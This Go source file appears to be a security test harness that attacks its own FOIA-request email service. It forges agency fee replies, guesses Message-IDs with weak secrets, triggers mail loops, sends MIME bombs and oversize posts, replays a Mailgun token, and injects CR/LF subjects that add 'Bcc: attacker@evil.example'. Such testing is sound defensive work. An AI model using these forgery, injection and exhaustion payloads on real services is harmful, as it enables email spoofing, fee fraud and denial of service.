package main

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/foiaflow/foiaflow/cmd/internal/fleet"
	"github.com/foiaflow/foiaflow/mail"
)

// replay sets up the cases the attacks aim at, then runs every attack.
func (a *attack) replay(ctx context.Context) error {
	a.cases = map[string]*target{}
	if err := a.setup(ctx); err != nil {
		return fmt.Errorf("setup: %w", err)
	}
	for _, ph := range []struct {
		name string
		fn   func(context.Context) error
	}{
		{"spoofed replies and guessed Message-IDs", a.spoof},
		{"automatic mail: out-of-office, auto-replies, a bounce, a clarifying robot", a.loops},
		{"hostile MIME: nesting, parts, a 3,000-character Message-ID, NUL bytes", a.hostile},
		{"oversized and parallel large posts", a.oversize},
		{"replayed Mailgun token", a.mailgunReplay},
		{"CR/LF in an edited subject", a.crlf},
		{"doors: a form post with Basic credentials, a year-9999 date", a.doors},
		{"postgres stopped under traffic", a.pgStop},
	} {
		fleet.Step("attack: %s", ph.name)
		if err := ph.fn(ctx); err != nil {
			return fmt.Errorf("%s: %w", ph.name, err)
		}
	}
	fleet.Step("waiting up to %s for quiescence", a.o.settle)
	if err := a.waitQuiet(ctx); err != nil {
		fmt.Printf("    not quiet: %v (what is left is counted below)\n", err)
	}
	return nil
}

// setup creates the target cases: F has a genuine $25 fee quote parked,
// A, L and R are AUTO cases whose initial request went out, H receives
// hostile MIME, E has its initial request parked for the CR/LF edit.
func (a *attack) setup(ctx context.Context) error {
	fleet.Step("setup: target cases and their genuine history")
	f, err := a.newCase(ctx, "fee", "SUPERVISED", initialNone)
	if err != nil {
		return err
	}
	raw, _, err := letter{from: f.k.AgencyEmail, to: f.k.ReplyAddress, subject: "RE: Records request fee",
		text: fmt.Sprintf(feeText, 25), tag: "genuine"}.build()
	if err != nil {
		return err
	}
	if _, err := a.deliver(ctx, raw, "genuine fee quote"); err != nil {
		return err
	}
	p, err := a.pending(ctx, f.k.ID)
	if err != nil || p.action != "APPROVE_FEE" || p.feeCents == nil || *p.feeCents != 2500 {
		return fmt.Errorf("control failed: the genuine $25 quote did not park an APPROVE_FEE of 2500 cents (%+v, %v)", p, err)
	}
	f.genuine = &p
	for _, n := range []string{"auto", "loop", "robot"} {
		if _, err := a.newCase(ctx, n, "AUTO", initialSent); err != nil {
			return err
		}
	}
	if _, err := a.newCase(ctx, "hostile", "SUPERVISED", initialNone); err != nil {
		return err
	}
	e, err := a.newCase(ctx, "edit", "SUPERVISED", initialParked)
	if err != nil {
		return err
	}
	ep, err := a.pending(ctx, e.k.ID)
	if err != nil {
		return fmt.Errorf("control failed: initial request of case %d not parked: %w", e.k.ID, err)
	}
	e.genuine = &ep
	for _, t := range a.cases {
		if t.facts, err = a.caseFacts(ctx, t.k.ID); err != nil {
			return err
		}
	}
	fmt.Printf("    cases: fee=%d (APPROVE_FEE %d v%d, $25) auto=%d loop=%d robot=%d hostile=%d edit=%d\n",
		f.k.ID, p.id, p.version, a.cases["auto"].k.ID, a.cases["loop"].k.ID, a.cases["robot"].k.ID,
		a.cases["hostile"].k.ID, e.k.ID)
	return nil
}

// forge builds and delivers a forged letter, expecting exp of it.
func (a *attack) forge(ctx context.Context, l letter, exp expectation, label string) error {
	l.tag = "forged"
	if exp == expectAutomatic {
		l.tag = "auto"
	}
	raw, id, err := l.build()
	if err != nil {
		return err
	}
	a.attempts++
	a.expect[id] = exp
	_, err = a.deliver(ctx, raw, label)
	return err
}

// spoof: another address at the agency's domain quotes $45, with no proof,
// with guessed In-Reply-To values, through a forwarded reply address, and
// as the agency's own address without proof (the old sender fallback).
func (a *attack) spoof(ctx context.Context) error {
	for _, name := range []string{"fee", "auto"} {
		t := a.cases[name]
		other := "billing@" + domainOf(t.k.AgencyEmail)
		forged := fmt.Sprintf(feeText, 45)
		plain := "requests@" + mailDomain
		guesses := map[string]string{
			"old scheme (SHA-256 of the execution key)": oldSchemeMessageID(t.k.ID, mailDomain),
			"current format, development secret":        guessedMessageID(t.k.ID, mailDomain, "foiaflow-development-mail-id-secret-do-not-use"),
			"current format, empty secret":              guessedMessageID(t.k.ID, mailDomain, ""),
		}
		for what, id := range guesses {
			if err := a.forge(ctx, letter{from: other, to: plain, subject: "RE: Records request " + name, text: forged, inReplyTo: id},
				expectOrphan, "spoof "+name+": In-Reply-To "+what); err != nil {
				return err
			}
		}
		if err := a.forge(ctx, letter{from: other, to: plain, subject: "RE: Records request " + name, text: forged},
			expectOrphan, "spoof "+name+": same domain, no proof"); err != nil {
			return err
		}
		if err := a.forge(ctx, letter{from: t.k.AgencyEmail, to: plain, subject: "RE: Records request " + name, text: forged},
			expectOrphan, "spoof "+name+": the agency's own address, no proof"); err != nil {
			return err
		}
		if err := a.forge(ctx, letter{from: other, to: t.k.ReplyAddress, subject: "RE: Records request " + name, text: forged},
			expectUnverified, "spoof "+name+": forwarded reply address"); err != nil {
			return err
		}
		if t.sent != "" {
			if err := a.forge(ctx, letter{from: other, to: plain, subject: "RE: Records request " + name, text: forged, inReplyTo: t.sent},
				expectUnverified, "spoof "+name+": In-Reply-To our real Message-ID"); err != nil {
				return err
			}
		}
	}
	return nil
}

// loops: automatic answers to the loop case's request, each from the
// agency's own address in its thread and asking to clarify, a bounce, then
// an agency robot that asks for clarification after every answer without
// marking itself.
func (a *attack) loops(ctx context.Context) error {
	t := a.cases["loop"]
	subj := "RE: Records request loop"
	for _, l := range []struct {
		label   string
		subject string
		headers map[string]string
	}{
		{"Auto-Submitted: auto-replied", "Automatic reply: " + subj, map[string]string{"Auto-Submitted": "auto-replied"}},
		{"X-Autoreply and Precedence: auto_reply", subj, map[string]string{"X-Autoreply": "yes", "Precedence": "auto_reply"}},
		{"out-of-office subject only", "Out of Office: " + subj, nil},
		{"Precedence: bulk", subj, map[string]string{"Precedence": "bulk"}},
		{"Auto-Submitted: auto-generated to the reply address", subj, map[string]string{"Auto-Submitted": "auto-generated"}},
	} {
		to := "requests@" + mailDomain
		if l.headers["Auto-Submitted"] == "auto-generated" {
			to = t.k.ReplyAddress
		}
		if err := a.forge(ctx, letter{from: t.k.AgencyEmail, to: to, subject: l.subject,
			text: "I am out of the office with limited access to email.\n\n" + clarifyText, inReplyTo: t.sent, headers: l.headers},
			expectAutomatic, "loop: "+l.label); err != nil {
			return err
		}
	}
	raw := dsnBounce("MAILER-DAEMON@"+domainOf(t.k.AgencyEmail), t.k.ReplyAddress, t.sent)
	a.attempts++
	a.expect[headerValue(raw, "Message-ID")] = expectAutomatic
	if _, err := a.deliver(ctx, raw, "loop: DSN bounce"); err != nil {
		return err
	}
	r := a.cases["robot"]
	for i := range autoSendsCap + 2 {
		last, err := a.lastSent(ctx, r.k.ID)
		if err != nil {
			return err
		}
		raw, _, err := letter{from: r.k.AgencyEmail, to: "requests@" + mailDomain, subject: "RE: Records request robot",
			text: clarifyText, inReplyTo: last, tag: "robot"}.build()
		if err != nil {
			return err
		}
		a.attempts++
		if _, err := a.deliver(ctx, raw, fmt.Sprintf("loop: unmarked robot clarification %d", i+1)); err != nil {
			return err
		}
	}
	return nil
}

// headerValue reads one header of hand-built raw MIME.
func headerValue(raw []byte, name string) string {
	for _, line := range strings.Split(string(raw[:bytes.Index(raw, []byte("\r\n\r\n"))]), "\r\n") {
		if k, v, ok := strings.Cut(line, ":"); ok && strings.EqualFold(k, name) {
			return strings.TrimSpace(v)
		}
	}
	return ""
}

// hostile: MIME bombs and odd bytes on the hostile case and as orphans.
func (a *attack) hostile(ctx context.Context) error {
	t := a.cases["hostile"]
	from, to := t.k.AgencyEmail, t.k.ReplyAddress
	for _, m := range []struct {
		label string
		raw   []byte
	}{
		{"nested 1,000 levels", nestedBomb(from, to, 1000, 100)},
		{"nested 500 levels around 1 MB", nestedBomb(from, to, 500, 1<<20)},
		{"nested 1,000 levels, orphan", nestedBomb(from, "requests@"+mailDomain, 1000, 100)},
		{"5,000 parts", manyParts(from, to, 5000)},
		{"3,000-character Message-ID", longMessageID(from, to)},
		{"NUL bytes in headers and body", nulLaden(from, to)},
	} {
		a.attempts++
		start := time.Now()
		status, err := a.deliver(ctx, m.raw, "hostile: "+m.label)
		if err != nil {
			return err
		}
		fmt.Printf("    %s (%d bytes): HTTP %d, processed in %s\n", m.label, len(m.raw), status, time.Since(start).Round(time.Millisecond))
	}
	return nil
}

// oversize: bodies over INBOUND_MAX_BYTES, declared and chunked, then
// parallel large posts under it.
func (a *attack) oversize(ctx context.Context) error {
	t := a.cases["hostile"]
	huge := bigMessage(t.k.AgencyEmail, t.k.ReplyAddress, 40<<20)
	for _, chunked := range []bool{false, true} {
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, a.c.fc.Base+"/v1/inbound/email", bytes.NewReader(huge))
		if err != nil {
			return err
		}
		label := "oversize: 40 MB declared"
		if chunked {
			req.Body, req.ContentLength = io.NopCloser(bytes.NewReader(huge)), -1
			label = "oversize: 40 MB chunked"
		}
		ts, sig := mail.SignRaw(a.c.fc.Secret, time.Now(), huge)
		req.Header.Set("Content-Type", "message/rfc822")
		req.Header.Set(mail.HeaderTimestamp, ts)
		req.Header.Set(mail.HeaderSignature, sig)
		a.attempts++
		ans, err := a.c.send(req, label)
		fmt.Printf("    %s: HTTP %d %v\n", label, ans.status, err)
		if ans.status/100 == 2 {
			a.findings.add(&a.findings.steered, "%s: accepted over INBOUND_MAX_BYTES", label)
		}
	}
	huge = nil
	var wg sync.WaitGroup
	var mu sync.Mutex
	var errs []error
	start := time.Now()
	for i := range a.o.bigPosts {
		wg.Add(1)
		go func() {
			defer wg.Done()
			raw := bigMessage(t.k.AgencyEmail, t.k.ReplyAddress, a.o.bigMB*1_000_000)
			label := fmt.Sprintf("large post %d (%d MB)", i+1, a.o.bigMB)
			ans, rc, err := a.c.postRaw(ctx, raw, label)
			mu.Lock()
			defer mu.Unlock()
			a.attempts++
			if err != nil {
				errs = append(errs, err)
			} else if ans.status/100 == 2 {
				a.accepted[rc.RawMessageID] = label
			}
		}()
	}
	wg.Wait()
	fmt.Printf("    %d parallel posts of %d MB answered in %s\n", a.o.bigPosts, a.o.bigMB, time.Since(start).Round(time.Millisecond))
	for _, err := range errs {
		fmt.Printf("    large post: %v\n", err)
	}
	return settled("large posts", a.waitQuiet(ctx))
}

// mailgunReplay: a signed Mailgun delivery whose body does not parse, then
// its timestamp, token and signature replayed with a forged reply from the
// fee case's own agency address (the signature covers only timestamp and
// token), then the same delivery again.
func (a *attack) mailgunReplay(ctx context.Context) error {
	t := a.cases["fee"]
	ts, token := strconv.FormatInt(time.Now().Unix(), 10), fleet.RandHex(25)
	m := hmac.New(sha256.New, a.mgKey)
	m.Write([]byte(ts + token))
	sig := hex.EncodeToString(m.Sum(nil))
	garbage := []byte("this is not\x00 a MIME message\r\n\r\n")
	forged, id, err := letter{from: t.k.AgencyEmail, to: t.k.ReplyAddress, subject: "RE: Records request fee",
		text: fmt.Sprintf(feeText, 45), tag: "forged"}.build()
	if err != nil {
		return err
	}
	sum := sha256.Sum256(forged)
	a.replayID, a.replaySHA = id, hex.EncodeToString(sum[:]) // must never be stored at all
	for i, body := range [][]byte{garbage, forged, garbage} {
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		for k, v := range map[string]string{"timestamp": ts, "token": token, "signature": sig, "body-mime": string(body)} {
			if err := w.WriteField(k, v); err != nil {
				return err
			}
		}
		if err := w.Close(); err != nil {
			return err
		}
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, a.c.fc.Base+"/v1/inbound/email", &b)
		if err != nil {
			return err
		}
		req.Header.Set("Content-Type", w.FormDataContentType())
		label := []string{"mailgun: unparseable delivery", "mailgun: token replayed with a forged reply", "mailgun: same delivery replayed"}[i]
		a.attempts++
		ans, err := a.c.send(req, label)
		if err != nil {
			return err
		}
		fmt.Printf("    %s: HTTP %d\n", label, ans.status)
		var rc receipt
		if ans.status/100 == 2 && json.Unmarshal(ans.body, &rc) == nil {
			if i == 0 {
				a.accepted[rc.RawMessageID] = label
				if err := settled(label, a.waitRaw(ctx, rc.RawMessageID)); err != nil {
					return err
				}
			} else if i == 1 {
				a.findings.add(&a.findings.steered, "%s: accepted (HTTP %d, raw message %d)", label, ans.status, rc.RawMessageID)
			}
		}
	}
	return nil
}

// crlf: edits whose subject carries CR/LF (header injection), then the
// approval of the version the reviewer saw, which must still send.
func (a *attack) crlf(ctx context.Context) error {
	t := a.cases["edit"]
	p := *t.genuine
	for i, subj := range []string{"Records request\r\nBcc: attacker@evil.example", "Records request\nBcc: attacker@evil.example",
		"Records request\rBcc: attacker@evil.example", "Records request\x00"} {
		a.attempts++
		label := fmt.Sprintf("crlf: edit subject %q", subj)
		ans, err := a.c.json(ctx, http.MethodPost, fmt.Sprintf("/v1/cases/%d/proposals/%d/edit", t.k.ID, p.id),
			map[string]any{"version": p.version, "subject": subj, "body_text": "Please send the records."},
			map[string]string{"Idempotency-Key": fmt.Sprintf("crlf-%d-%s", i, fleet.RandHex(4))}, label)
		if err != nil {
			return err
		}
		fmt.Printf("    %s: HTTP %d\n", label, ans.status)
		if ans.status/100 == 2 {
			if err := settled(label, a.waitIdle(ctx, t.k.ID)); err != nil {
				return err
			}
		}
	}
	now, err := a.proposalByID(ctx, p.id)
	if err != nil {
		return err
	}
	if now.status != "PENDING_APPROVAL" || now.version != p.version {
		a.findings.add(&a.findings.stuck, "crlf: proposal %d is %s v%d after the refused edits (was PENDING_APPROVAL v%d)",
			p.id, now.status, now.version, p.version)
		return nil
	}
	path := fmt.Sprintf("/v1/cases/%d/proposals/%d/approve", t.k.ID, p.id)
	ans, err := a.c.json(ctx, http.MethodPost, path, map[string]any{"version": p.version},
		map[string]string{"Idempotency-Key": "crlf-approve-" + fleet.RandHex(4)}, "crlf: approve after the refused edits")
	if err != nil {
		return err
	}
	if ans.status/100 != 2 {
		a.findings.add(&a.findings.stuck, "crlf: approving proposal %d v%d after the refused edits: HTTP %d %s", p.id, p.version, ans.status, ans.body)
		return nil
	}
	return settled("crlf: approval", a.waitIdle(ctx, t.k.ID))
}

// doors: a cross-site form post (text/plain with Basic credentials a
// browser would resend) and a case dated in the year 9999.
func (a *attack) doors(ctx context.Context) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, a.c.fc.Base+"/v1/cases",
		strings.NewReader(`{"agency_name":"csrf","agency_email":"x@csrf.example.gov","subject":"csrf","sent_at":"2025-01-01T00:00:00Z"}`))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "text/plain")
	req.SetBasicAuth("reviewer", a.c.fc.Key)
	a.attempts++
	ans, err := a.c.send(req, "doors: text/plain with Basic credentials")
	if err != nil {
		return err
	}
	fmt.Printf("    text/plain POST /v1/cases with Basic credentials: HTTP %d\n", ans.status)
	if ans.status/100 == 2 {
		a.findings.add(&a.findings.steered, "a cross-site text/plain form created a case (HTTP %d)", ans.status)
	}
	a.attempts++
	ans, err = a.c.json(ctx, http.MethodPost, "/v1/cases", map[string]any{"agency_name": "Agency 9999", "agency_email": "records@y9999.example.gov",
		"jurisdiction": "US", "subject": "year 9999", "requested_records": []string{"anything"}, "sent_at": "9999-12-31T23:59:59Z"}, nil, "doors: sent_at in the year 9999")
	if err != nil {
		return err
	}
	fmt.Printf("    POST /v1/cases with sent_at 9999-12-31: HTTP %d %s\n", ans.status, bytes.TrimSpace(ans.body))
	if len(bytes.TrimSpace(ans.body)) == 0 {
		a.findings.add(&a.findings.serverErrors, "sent_at 9999: HTTP %d with an empty body", ans.status)
	}
	return nil
}
